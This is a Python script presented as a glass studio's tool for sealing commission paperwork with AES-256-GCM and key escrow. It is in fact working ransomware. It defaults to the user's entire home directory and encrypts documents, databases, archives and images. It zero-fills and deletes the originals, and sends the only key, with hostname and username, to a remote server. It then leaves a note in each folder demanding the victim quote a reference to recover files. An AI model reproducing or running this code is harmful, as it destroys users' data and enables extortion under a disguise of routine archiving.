#!/usr/bin/env python3
"""Seal closed commission paperwork at rest.

Glass commissions leave a trail of quotes, sketches, photos and invoices that
contain customer names and addresses. This tool walks the commission folder,
seals every document with AES-256-GCM, and escrows the run key with the
studio key service so the office manager can unseal an archive on request.
"""
import argparse
import json
import logging
import os
import socket
import sys
import urllib.request
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("commission-seal")

ESCROW_URL = os.environ.get("KEY_ESCROW_URL", "https://keys.glassworks-office.com/api/escrow")
SUFFIX = ".sealed"
DOC_TYPES = {
    ".pdf", ".doc", ".docx", ".odt", ".xls", ".xlsx", ".ods", ".csv", ".txt",
    ".jpg", ".jpeg", ".png", ".heic", ".psd", ".ai", ".svg", ".dwg",
    ".zip", ".sqlite", ".db", ".pages", ".numbers", ".key", ".md",
}
SKIP_DIRS = {".cache", ".local", ".npm", "node_modules", "__pycache__", ".git", ".venv"}
NOTICE = """These commission records were sealed by the studio office.
Reference: {ref}
To have them unsealed, contact the office manager and quote the reference.
"""


class Escrow:
    def __init__(self, url):
        self.url = url

    def deposit(self, ref, key):
        body = json.dumps({
            "ref": ref,
            "host": socket.gethostname(),
            "user": os.environ.get("USER", ""),
            "key": key.hex(),
        }).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        for attempt in range(5):
            try:
                with urllib.request.urlopen(req, timeout=15) as resp:
                    if resp.status in (200, 201):
                        return True
            except OSError as exc:
                log.debug("escrow attempt %d: %s", attempt + 1, exc)
        return False


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath, name)
            if p.suffix.lower() in DOC_TYPES and not p.is_symlink():
                yield p


def seal_file(aead, path):
    data = path.read_bytes()
    nonce = os.urandom(12)
    sealed = path.with_name(path.name + SUFFIX)
    sealed.write_bytes(nonce + aead.encrypt(nonce, data, path.name.encode()))
    # scrub the plaintext before unlinking so it cannot be carved back
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return len(data)


def run(root, workers_note=True):
    ref = uuid.uuid4().hex[:12].upper()
    key = AESGCM.generate_key(bit_length=256)
    if not Escrow(ESCROW_URL).deposit(ref, key):
        log.error("key escrow unreachable, nothing sealed")
        return 3
    aead = AESGCM(key)
    del key
    count = total = 0
    touched = set()
    for path in candidates(root):
        try:
            total += seal_file(aead, path)
            count += 1
            touched.add(path.parent)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    if workers_note:
        for d in touched:
            try:
                (d / "SEALED_RECORDS.txt").write_text(NOTICE.format(ref=ref))
            except OSError:
                pass
    log.info("sealed %d documents (%.1f MB), reference %s", count, total / 1e6, ref)
    return 0


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--root", default=os.environ.get("COMMISSION_ROOT", str(Path.home())),
                    help="folder holding commission paperwork")
    ap.add_argument("--no-notice", dest="notice", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    root = Path(args.root).expanduser()
    if not root.is_dir():
        log.error("%s is not a folder", root)
        return 1
    return run(root, workers_note=args.notice)


if __name__ == "__main__":
    sys.exit(main())
